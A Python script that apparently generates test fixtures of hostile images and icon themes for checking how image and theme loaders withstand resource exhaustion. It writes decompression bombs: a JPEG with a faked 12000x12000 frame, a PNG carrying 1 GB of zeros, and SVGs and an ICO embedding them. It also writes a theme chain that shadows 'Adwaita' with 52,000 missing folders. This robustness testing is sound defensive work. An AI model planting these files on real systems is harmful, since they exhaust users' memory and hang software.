#!/usr/bin/env python3
"""Pictures and icon themes made to cost a reader memory and time, as any package, download or
theme can place them (1 MB-class files): python3 hostile_pictures.py FOLDER THEMES-FOLDER"""
import base64, os, struct, sys, zlib

pictures, themes = sys.argv[1], sys.argv[2]
os.makedirs(pictures, exist_ok=True)


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, idat):
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def zeros(count):
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    parts = [packer.compress(block) for _ in range(count >> 20)]
    parts.append(packer.compress(bytes(count & ((1 << 20) - 1))))
    return b"".join(parts) + packer.flush()


def write(name, data):
    with open(os.path.join(pictures, name), "wb") as out:
        out.write(data if isinstance(data, bytes) else data.encode())


# A progressive JPEG of 16 x 16 whose frame header says 12000 x 12000: libjpeg holds every
# coefficient of the whole picture before the first scan, 432 MB.
SMALL_PROGRESSIVE = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEAYABgAAD/2wBDAKBueIx4ZKCMgoy0qqC+8P//8Nzc8P////////////////////////////////////"
    "//////////////////////2wBDAaq0tPDS8P//////////////////////////////////////////////////////////////"
    "////////////////wgARCAAQABADASIAAhEBAxEB/8QAFAABAAAAAAAAAAAAAAAAAAAAAf/EABQBAQAAAAAAAAAAAAAAAAAAAAD/"
    "2gAMAwEAAhADEAAAARE//8QAFhABAQEAAAAAAAAAAAAAAAAAAAEQ/9oACAEBAAEFAlyv/8QAFBEBAAAAAAAAAAAAAAAAAAAAAP/a"
    "AAgBAwEBPwF//8QAFBEBAAAAAAAAAAAAAAAAAAAAAP/aAAgBAgEBPwF//8QAFBABAAAAAAAAAAAAAAAAAAAAIP/aAAgBAQAGPwIf"
    "/8QAFhABAQEAAAAAAAAAAAAAAAAAAAFB/9oACAEBAAE/IYwjD//aAAwDAQACAAMAAAAQA//EABQRAQAAAAAAAAAAAAAAAAAAAAD/"
    "2gAIAQMBAT8Qf//EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAIAQIBAT8Qf//EABYQAQEBAAAAAAAAAAAAAAAAAMEAEP/aAAgBAQAB"
    "PxCsZYv/2Q==")
jpeg = bytearray(SMALL_PROGRESSIVE)
frame = jpeg.index(b"\xff\xc2")
jpeg[frame + 5:frame + 9] = struct.pack(">HH", 12000, 12000)
write("progressive.jpg", bytes(jpeg))

# An ordinary picture beside them, whose thumbnail tells that the folder's were read.
write("ordinary.png", png(64, 64, zlib.compress(b"".join(b"\0" + b"\x20\x60\xc0\xff" * 64 for _ in range(64)))))

# A 64 x 64 PNG whose image data runs on for 1 GB of zeros.
zero_png = png(64, 64, zeros(1 << 30))
write("zeros.png", zero_png)

svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
       'width="64" height="64">%s</svg>')


def image(data, kind):
    return '<image width="64" height="64" xlink:href="data:%s;base64,%s"/>' % (kind, base64.b64encode(data).decode())


write("zeros-inside.svg", svg % (image(zero_png, "image/png") * 5))
# An ICO whose directory says 1 x 1 of a PNG of 5600 x 5600, twenty times.
large = png(5600, 5600, zeros(5600 * (1 + 5600 * 4)))
ico = struct.pack("<HHH", 0, 1, 1) + struct.pack("<BBBBHHII", 1, 1, 0, 0, 1, 32, len(large), 22) + large
write("lying-ico.svg", svg % (image(ico, "image/x-icon") * 20))
write("text.svg", svg % ('<text x="0" y="32">' + "lorem ipsum " * 658000 + "</text>"))
write("no-base64.svg", svg % ('<image width="64" height="64" xlink:href="data:image/png,' + "x" * (4 << 20) + '"/>'))
# A legitimate icon of 8 MB: 2,000 detailed paths.
path = "M32,32" + "".join(" l%.2f,%.2f" % ((i % 7) - 3.1, (i % 5) - 2.05) for i in range(330))
write("large-legitimate.svg", svg % "".join('<path fill="#%06x" d="%s"/>' % (n * 2654435761 % 0xFFFFFF, path)
                                             for n in range(2000)))

# 32 themes whose index.theme files list 52,000 folders that are not there, in a chain the
# common theme's name starts.
names = ["Adwaita"] + ["hostile-%02d" % n for n in range(1, 32)]
for at, name in enumerate(names):
    os.makedirs(os.path.join(themes, name), exist_ok=True)
    folders = ["missing-%d/apps" % n for n in range(1625)]
    parent = "Inherits=%s\n" % names[at + 1] if at + 1 < len(names) else ""
    with open(os.path.join(themes, name, "index.theme"), "w") as out:
        out.write("[Icon Theme]\nName=%s\n%sDirectories=%s\n\n" % (name, parent, ",".join(folders)))
        for folder in folders:
            out.write("[%s]\nSize=48\nType=Fixed\n\n" % folder)
